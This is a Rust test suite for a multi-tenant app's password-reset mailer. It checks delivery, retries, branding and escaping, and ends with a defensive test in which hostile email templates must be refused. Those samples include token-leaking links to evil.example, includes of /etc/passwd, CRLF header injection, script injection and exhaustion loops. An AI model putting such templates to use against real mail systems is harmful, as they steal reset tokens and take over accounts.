//! Mails: composed, filled in, sent to a real SMTP server, opened and read.

use crate::{MovedClock, keys};
use base64::Engine;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use mail_parser::{Message, MessageParser, MimeHeaders};
use mono_auth::Authenticator;
use mono_auth::mail::{Links, Mailer, Transport};
use mono_core::caller::{Caller, SystemReason};
use mono_core::id::{TenantId, UserId};
use mono_core::model::mail::{MailKind, MailTemplate, TemplateBroken};
use mono_core::model::tenant::{Document, Tenant, TenantChange};
use mono_core::text::{Email, Locale, Name};
use mono_storage::db::Database;
use mono_storage::store::{DeadMail, NewMail, NewUser, TokenPurpose};
use mono_storage::testkit::{self, World};
use serde_json::json;
use sha2::{Digest, Sha256};
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::Duration;

mono_storage::conformance!(
    a_mail_arrives_in_two_parts_and_its_link_works,
    nobody_is_told_which_addresses_exist,
    a_refused_address_is_given_up_at_once,
    a_busy_server_is_tried_again,
    a_mail_that_was_lost_on_its_way_is_sent_again,
    two_mailers_send_each_mail_once,
    a_mail_bears_the_language_and_the_colours_of_its_tenant,
    a_broken_template_falls_back_and_is_reported,
    names_are_escaped_and_add_no_header,
    a_mailer_wakes_for_a_mail_and_ends_after_what_it_has_begun,
);

/// The mail server of the tests, where one is named.
struct Sink {
    url: String,
    folder: PathBuf,
}

impl Sink {
    fn named() -> Option<Self> {
        let folder = std::env::var_os("MONO_TEST_SMTP_FOLDER")?.into();
        Some(Self { url: std::env::var("MONO_TEST_SMTP_URL").ok()?, folder })
    }

    fn transport(&self) -> Transport {
        Transport::smtp(&self.url.clone().into()).unwrap()
    }

    /// The mails that came for an address.
    fn mails(&self, address: &str) -> Vec<Vec<u8>> {
        read(&self.folder.join(address))
    }
}

/// The mails in a folder.
fn read(folder: &Path) -> Vec<Vec<u8>> {
    let Ok(entries) = std::fs::read_dir(folder) else { return Vec::new() };
    let files = entries.map(|entry| entry.unwrap().path());
    files
        .filter(|path| path.extension().is_some_and(|end| end == "eml"))
        .map(|path| std::fs::read(path).unwrap())
        .collect()
}

fn mailer(database: &Database, transport: Transport) -> Mailer {
    let links = Links::to("https://app.example.com").unwrap();
    let authenticator = Authenticator::new(database.clone(), &keys()).unwrap().with_links(links);
    Mailer::new(authenticator, transport, "Harbour Cloud <no-reply@app.example.com>").unwrap()
}

/// Somebody with an address that no other test has.
async fn user(database: &Database, local: &str, name: &str) -> (UserId, Email) {
    let domain = database.new_id::<UserId>();
    let email = Email::parse(&format!("{local}@{domain}.example")).unwrap();
    let system = Caller::system(SystemReason::Seed);
    let mut tx = database.platform(&system).write().await.unwrap();
    let new = NewUser { email: email.clone(), name: Name::parse(name).unwrap(), password_hash: None };
    let id = tx.users().create(new).await.unwrap().id;
    tx.commit().await.unwrap();
    (id, email)
}

async fn enqueue(database: &Database, mail: NewMail) {
    let system = Caller::system(SystemReason::Authentication);
    let mut tx = database.platform(&system).write().await.unwrap();
    tx.mails().enqueue(mail).await.unwrap();
    tx.commit().await.unwrap();
}

fn reset(email: &Email) -> NewMail {
    NewMail::new(MailKind::ResetPassword, email.clone())
}

async fn dead(database: &Database) -> Vec<DeadMail> {
    let system = Caller::system(SystemReason::Mail);
    database.platform(&system).read().await.unwrap().mails().dead().await.unwrap()
}

async fn rows(database: &Database) -> usize {
    let system = Caller::system(SystemReason::Mail);
    let mut tx = database.platform(&system).read().await.unwrap();
    mono_storage::platform_sql!(tx, "SELECT id FROM mails").rows().await.unwrap().len()
}

fn parse(mail: &[u8]) -> Message<'_> {
    MessageParser::default().parse(mail).unwrap()
}

fn plain(mail: &Message<'_>) -> String {
    mail.body_text(0).unwrap().into_owned()
}

fn html(mail: &Message<'_>) -> String {
    mail.body_html(0).unwrap().into_owned()
}

/// The address behind the button.
fn link(html: &str) -> String {
    let place = html.find("href=\"https:").unwrap() + 6;
    let end = html[place..].find('"').unwrap();
    html[place..place + end].replace("&#x2f;", "/").replace("&amp;", "&")
}

async fn a_mail_arrives_in_two_parts_and_its_link_works(world: World) {
    let Some(sink) = Sink::named() else { return };
    let database = &world.test.database;
    let (id, email) = user(database, "ana", "Ana Silva").await;
    enqueue(database, reset(&email)).await;
    let mailer = mailer(database, sink.transport());
    assert_eq!(mailer.deliver().await.unwrap(), 1);
    assert_eq!(mailer.deliver().await.unwrap(), 0);
    let mails = sink.mails(email.as_str());
    assert_eq!(mails.len(), 1);
    let mail = parse(&mails[0]);
    assert_eq!(mail.subject(), Some("Reset your password for Harbour Cloud"));
    let from = mail.from().unwrap().first().unwrap();
    assert_eq!((from.name(), from.address()), (Some("Harbour Cloud"), Some("no-reply@app.example.com")));
    let to = mail.to().unwrap().first().unwrap();
    assert_eq!((to.name(), to.address()), (Some("Ana Silva"), Some(email.as_str())));
    assert!(mail.message_id().unwrap().ends_with("@app.example.com"));
    assert_eq!(mail.header_raw("Auto-Submitted").map(str::trim), Some("auto-generated"));
    assert_eq!(mail.content_type().unwrap().subtype(), Some("alternative"));
    assert_eq!((mail.text_body_count(), mail.html_body_count()), (1, 1));

    let (plain, html) = (plain(&mail), html(&mail));
    assert!(plain.contains("Hello Ana Silva,") && plain.contains("for 1 hour"), "{plain}");
    assert!(html.contains("Hello Ana Silva,") && html.contains("1 hour"));
    assert!(!plain.contains("{{") && !html.contains("{{") && !html.contains("[["));
    let link = link(&html);
    assert!(plain.contains(&link), "both parts hold the same link");
    let token = link.strip_prefix("https://app.example.com/reset-password#token=").unwrap();
    let hash = URL_SAFE_NO_PAD.encode(Sha256::digest(token));
    let system = Caller::system(SystemReason::Authentication);
    let mut tx = database.platform(&system).write().await.unwrap();
    let token = tx.single_use_tokens().consume(TokenPurpose::ResetPassword, &hash).await.unwrap().unwrap();
    assert_eq!(token.user_id, Some(id));
}

async fn nobody_is_told_which_addresses_exist(world: World) {
    let folder = tempfile::tempdir().unwrap();
    let database = &world.test.database;
    let unknown = Email::parse("nobody@nowhere.example").unwrap();
    enqueue(database, reset(&unknown)).await;
    let mailer = mailer(database, Transport::folder(folder.path().into()));
    assert_eq!(mailer.deliver().await.unwrap(), 1);
    assert!(read(folder.path()).is_empty());
    assert_eq!(rows(database).await, 0, "it is gone and nobody is asked to look at it");
}

async fn a_refused_address_is_given_up_at_once(world: World) {
    let Some(sink) = Sink::named() else { return };
    let database = &world.test.database;
    let (_, email) = user(database, "reject", "Ana").await;
    enqueue(database, reset(&email)).await;
    let mailer = mailer(database, sink.transport());
    mailer.deliver().await.unwrap();
    let dead = dead(database).await;
    assert_eq!((dead.len(), dead[0].attempts), (1, 1));
    let reason = dead[0].last_error.as_deref().unwrap();
    assert!(reason.contains("550") && reason.contains("nobody has this address"), "{reason}");
    assert_eq!(mailer.deliver().await.unwrap(), 0);
}

async fn a_busy_server_is_tried_again(world: World) {
    let Some(sink) = Sink::named() else { return };
    let clock = MovedClock::at(world.test.database.now());
    let database = world.test.database.clone().with_clock(clock.clone());
    let (_, email) = user(&database, "later", "Ana").await;
    enqueue(&database, reset(&email)).await;
    let mailer = mailer(&database, sink.transport());
    assert_eq!(mailer.deliver().await.unwrap(), 1);
    assert!(sink.mails(email.as_str()).is_empty() && dead(&database).await.is_empty());
    assert_eq!(mailer.deliver().await.unwrap(), 0, "it waits a second first");
    clock.go_on(2);
    assert_eq!(mailer.deliver().await.unwrap(), 1);
    assert_eq!(sink.mails(email.as_str()).len(), 1);
    clock.go_on(10_000);
    assert_eq!(mailer.deliver().await.unwrap(), 0);
}

async fn a_mail_that_was_lost_on_its_way_is_sent_again(world: World) {
    let folder = tempfile::tempdir().unwrap();
    let clock = MovedClock::at(world.test.database.now());
    let database = world.test.database.clone().with_clock(clock.clone());
    let (_, email) = user(&database, "ana", "Ana").await;
    enqueue(&database, reset(&email)).await;
    // A node that takes the mail and is killed.
    let system = Caller::system(SystemReason::Mail);
    let mut tx = database.platform(&system).write().await.unwrap();
    let taken = tx.mails().claim(10).await.unwrap();
    tx.commit().await.unwrap();
    assert_eq!(taken.len(), 1);
    let mailer = mailer(&database, Transport::folder(folder.path().into()));
    clock.go_on(60);
    assert_eq!(mailer.deliver().await.unwrap(), 0);
    clock.go_on(60);
    assert_eq!(mailer.deliver().await.unwrap(), 1);
    let mails = read(folder.path());
    assert_eq!(mails.len(), 1);
    assert!(parse(&mails[0]).message_id().unwrap().starts_with(&taken[0].id.to_string()));
}

async fn two_mailers_send_each_mail_once(world: World) {
    let Some(sink) = Sink::named() else { return };
    let database = &world.test.database;
    let mut addresses = Vec::new();
    for i in 0..50 {
        let (_, email) = user(database, &format!("person{i}"), "Ana").await;
        enqueue(database, reset(&email)).await;
        addresses.push(email);
    }
    let mut nodes = tokio::task::JoinSet::new();
    for _ in 0..2 {
        let mailer = mailer(database, sink.transport());
        nodes.spawn(async move {
            let mut count = 0;
            loop {
                match mailer.deliver().await.unwrap() {
                    0 => return count,
                    taken => count += taken,
                }
            }
        });
    }
    assert_eq!(nodes.join_all().await.iter().sum::<usize>(), 50);
    for email in addresses {
        assert_eq!(sink.mails(email.as_str()).len(), 1, "{email}");
    }
}

fn template(locale: &str, subject: &str, html: &str, plain: &str) -> MailTemplate {
    MailTemplate {
        kind: MailKind::ResetPassword,
        locale: Locale::parse(locale).unwrap(),
        subject: subject.into(),
        html: html.into(),
        plain: plain.into(),
    }
}

const MJML: &str = "<mjml><mj-body><mj-section><mj-column><mj-text>{{ name }} {{ link }}</mj-text></mj-column></mj-section></mj-body></mjml>";

async fn put(world: &World, template: &MailTemplate) {
    let mut tx = world.test.database.tenant(&world.harbour.admin).write().await.unwrap();
    tx.mail_templates().put(template).await.unwrap();
    tx.commit().await.unwrap();
}

async fn change(database: &Database, tenant: TenantId, change: TenantChange) -> Tenant {
    let system = Caller::system(SystemReason::Seed);
    let mut tx = database.platform(&system).write().await.unwrap();
    let tenant = tx.tenants().update(tenant, change).await.unwrap();
    tx.commit().await.unwrap();
    tenant
}

async fn a_mail_bears_the_language_and_the_colours_of_its_tenant(world: World) {
    let database = &world.test.database;
    let german = Locale::parse("de").unwrap();
    let branding = json!({"primaryColor": "#b91c1c", "logoUrl": "https://cdn.example/logo.png"});
    let look = TenantChange {
        name: Some(Name::parse("Hafen Süd").unwrap()),
        default_locale: Some(german.clone()),
        supported_locales: Some(vec![german]),
        branding: Some(Document::parse("branding", branding).unwrap()),
        ..TenantChange::default()
    };
    change(database, world.harbour.id, look).await;
    let (_, email) = user(database, "ana", "Ana").await;
    let of_tenant = |locale: Option<&str>| NewMail {
        tenant: Some(world.harbour.id),
        locale: locale.map(|locale| Locale::parse(locale).unwrap()),
        ..reset(&email)
    };
    let sent = async |mail: NewMail| {
        let folder = tempfile::tempdir().unwrap();
        enqueue(database, mail).await;
        mailer(database, Transport::folder(folder.path().into())).deliver().await.unwrap();
        read(folder.path()).remove(0)
    };
    let bytes = sent(of_tenant(None)).await;
    let mail = parse(&bytes);
    assert_eq!(mail.subject(), Some("Ihr Passwort für Hafen Süd zurücksetzen"));
    assert!(plain(&mail).contains("Guten Tag Ana,") && plain(&mail).contains("1 Stunde"));
    let html = html(&mail);
    assert!(html.contains("#b91c1c") && html.contains("logo.png") && html.contains("lang=\"de\""), "{html}");
    let bytes = sent(of_tenant(Some("en-GB"))).await;
    assert_eq!(parse(&bytes).subject(), Some("Reset your password for Hafen Süd"));
    // What the tenant wrote comes before what is built in; the person's language before the tenant's.
    put(&world, &template("de", "Eigenes", MJML, "{{ link }}")).await;
    put(&world, &template("pt", "Próprio", MJML, "{{ link }}")).await;
    for (locale, subject) in [("pt-BR", "Próprio"), ("de", "Eigenes"), ("en", "Eigenes")] {
        let bytes = sent(of_tenant(Some(locale))).await;
        assert_eq!(parse(&bytes).subject(), Some(subject), "{locale}");
    }
    // Another tenant has nothing of it.
    let bytes = sent(NewMail { tenant: Some(world.lagoon.id), ..of_tenant(Some("de")) }).await;
    assert_eq!(parse(&bytes).subject(), Some("Ihr Passwort für lagoon zurücksetzen"));
}

async fn a_broken_template_falls_back_and_is_reported(world: World) {
    let database = &world.test.database;
    let folder = tempfile::tempdir().unwrap();
    let mailer = mailer(database, Transport::folder(folder.path().into()));
    let broken = template("en", "Mine", "<mjml>\n{{ nothing.at.all }}</mjml>", "x");
    let tenant = change(database, world.harbour.id, TenantChange::default()).await;
    assert!(mailer.check(&broken, &tenant).is_err(), "nobody stores it by the API");
    put(&world, &broken).await;
    let (_, email) = user(database, "ana", "Ana").await;
    enqueue(database, NewMail { tenant: Some(world.harbour.id), ..reset(&email) }).await;
    mailer.deliver().await.unwrap();
    let mails = read(folder.path());
    assert_eq!(parse(&mails[0]).subject(), Some("Reset your password for harbour"));
    let events = testkit::events(database, world.harbour.id).await.unwrap();
    let event = events.iter().find_map(|event| event.read::<TemplateBroken>().unwrap()).unwrap();
    assert_eq!((event.kind, event.locale), (broken.kind, broken.locale));
    let message = &event.problems[0].message;
    assert!(message.starts_with("line 2:"), "{message}");
}

async fn names_are_escaped_and_add_no_header(world: World) {
    let database = &world.test.database;
    let folder = tempfile::tempdir().unwrap();
    assert!(Name::parse("Ana\r\nBcc: all@x.example").is_err(), "no name has two lines");
    let name = "<script>alert(1)</script> {{ link }} \"x\"";
    let (_, email) = user(database, "ana", name).await;
    put(&world, &template("en", "For {{ name }}", MJML, "{{ name }} {{ link }}")).await;
    enqueue(database, NewMail { tenant: Some(world.harbour.id), ..reset(&email) }).await;
    let mailer = mailer(database, Transport::folder(folder.path().into()));
    mailer.deliver().await.unwrap();
    enqueue(database, reset(&email)).await;
    mailer.deliver().await.unwrap();
    let mails = read(folder.path());
    assert_eq!(mails.len(), 2);
    for bytes in &mails {
        let mail = parse(bytes);
        assert!(!html(&mail).contains("<script>"));
        assert!(html(&mail).contains("&lt;script&gt;"));
        assert!(html(&mail).contains("{{ link }}"), "a name is no source");
        assert_eq!(mail.to().unwrap().first().unwrap().name(), Some(name));
        assert!(mail.bcc().is_none());
    }
}

async fn a_mailer_wakes_for_a_mail_and_ends_after_what_it_has_begun(world: World) {
    let database = &world.test.database;
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().to_owned();
    let mailer = Arc::new(mailer(database, Transport::folder(path.clone())));
    let (_, email) = user(database, "ana", "Ana").await;
    // Told to stop from the beginning, it still sends what it has taken.
    enqueue(database, reset(&email)).await;
    mailer.deliver_until(std::future::ready(())).await;
    assert_eq!(read(&path).len(), 1);
    let (stop, stopped) = tokio::sync::oneshot::channel::<()>();
    let running = tokio::spawn({
        let mailer = mailer.clone();
        async move { mailer.deliver_until(async { drop(stopped.await) }).await }
    });
    enqueue(database, reset(&email)).await;
    let arrived = async {
        while read(&path).len() < 2 {
            tokio::time::sleep(Duration::from_millis(10)).await;
        }
    };
    tokio::time::timeout(Duration::from_mins(1), arrived).await.expect("the mail is sent");
    drop(stop);
    running.await.unwrap();
    assert_eq!(rows(database).await, 2);
}

#[tokio::test(flavor = "multi_thread")]
async fn hostile_templates_are_refused_with_line_and_reason() {
    let database =
        mono_storage::testkit::TestDatabase::create(mono_storage::testkit::Backend::Sqlite).await.unwrap();
    let world =
        World::create(database, mono_core::seed::Seed::parse(mono_core::seed::Seed::STARTER).unwrap()).await;
    let database = &world.test.database;
    let mailer = mailer(database, Transport::folder("nowhere".into()));
    let tenant = change(database, world.harbour.id, TenantChange::default()).await;
    let body = |inside: &str| {
        format!(
            "<mjml>\n<mj-body><mj-section><mj-column><mj-text>{{{{ link }}}}\n{inside}</mj-text></mj-column></mj-section></mj-body></mjml>"
        )
    };
    let deep = "<b>".repeat(20_000);
    let (endless, product) = (
        "{% for a in range(100000) %}{% for b in range(100000) %}x{% endfor %}{% endfor %}",
        "{{ \"x\" * 1000000000 }}",
    );
    for (html, code, line) in [
        (body("{% if name %}"), "invalid_syntax", "line 3"),
        (body("{{ name"), "invalid_syntax", "line 3"),
        (body("{{ secret }}"), "cannot_be_filled_in", "line 3"),
        (body("{{ name|safe }}"), "cannot_be_filled_in", "line 3"),
        (body("{% autoescape false %}{{ name }}{% endautoescape %}"), "not_allowed", "line 3"),
        (body("{% include \"/etc/passwd\" %}"), "not_allowed", "line 3"),
        (body(endless), "not_allowed", "line 3"),
        (body("{% set x = link %}<img src=\"https://evil.example/?{{ x }}\" />"), "not_allowed", "line 3"),
        (body("<img src=\"https://evil.example/?{{ link|last }}\" />"), "link_not_whole", ""),
        (body("{{ \"}}\" ~ link }}"), "link_not_whole", ""),
        (body("{% if 'a' in link %}<img src=\"https://evil.example/a\" />{% endif %}"), "link_not_whole", ""),
        (body("<img src=\"https://evil.example/?{{ link }}\" />"), "link_misplaced", "line 3"),
        (body("<a href=\"https://evil.example/?{{ link }}\">Go</a>"), "link_misplaced", "line 3"),
        (body("<b style=\"background: url({{ link }})\">Go</b>"), "link_misplaced", "line 3"),
        (body("<!-- {{ link }} -->"), "link_misplaced", "line 3"),
        (body("https://evil.example/?{{ link }}"), "link_misplaced", "line 2"),
        (body("<form action=\"https://evil.example/\"></form>"), "link_misplaced", "line 3"),
        (body("<style>a[href*=\"aa\"] { color: red }</style>"), "link_misplaced", "line 3"),
        (body(product), "too_expensive", "line 3"),
        (body(&deep), "too_deep", "line 3"),
        (body("</mj-column>"), "invalid_mjml", "line"),
        (
            body("").replace("<mj-section>", "<mj-section><mj-include path=\"/etc/passwd\" />"),
            "invalid_mjml",
            "line 2",
        ),
        ("plain text".to_owned(), "invalid_mjml", ""),
        (body("").replace("{{ link }}", ""), "missing_link", ""),
    ] {
        let error = mailer.check(&template("en", "Subject", &html, "{{ link }}"), &tenant).unwrap_err();
        let problem = error.problems().remove(0);
        let shown: String = html.chars().take(200).collect();
        assert_eq!(
            (problem.field.as_str(), problem.code.as_str()),
            ("html", code),
            "{shown}: {}",
            problem.message
        );
        assert!(problem.message.contains(line), "{shown}: {}", problem.message);
    }
    let plain = |text: &str| template("en", "Subject", &body(""), text);
    let code =
        |template: &MailTemplate| mailer.check(template, &tenant).unwrap_err().problems().remove(0).code;
    assert_eq!(code(&plain("no way in")), "missing_link");
    assert_eq!(code(&plain("")), "empty");
    assert_eq!(code(&plain("https://evil.example/?{{ link }}")), "link_misplaced");
    assert_eq!(code(&template("en", "{{ link }}", &body(""), "{{ link }}")), "link_misplaced");
    assert_eq!(code(&template("en", "a\r\nBcc: x", &body(""), "{{ link }}")), "control_character");
    assert_eq!(code(&template("en", "{{ expires_in and '' }}", &body(""), "{{ link }}")), "empty");
    mailer.check(&plain("{% if name %}{{ name|upper }}{% endif %} {{ link }}"), &tenant).unwrap();
    let button = body("<a href=\"{{ link }}\">Go</a>");
    mailer.check(&template("en", "Subject", &button, "{{ link }}"), &tenant).unwrap();
    // Every built-in one is a good beginning.
    for kind in MailKind::ALL {
        for locale in ["en", "de", "fr"] {
            let builtin = mailer.builtin_template(kind, &Locale::parse(locale).unwrap()).unwrap();
            mailer.check(&builtin, &tenant).unwrap();
            let preview = mailer.preview(&builtin, &tenant).unwrap();
            assert!(preview.html.contains("<!doctype html>"), "{kind} {locale}");
        }
    }
}
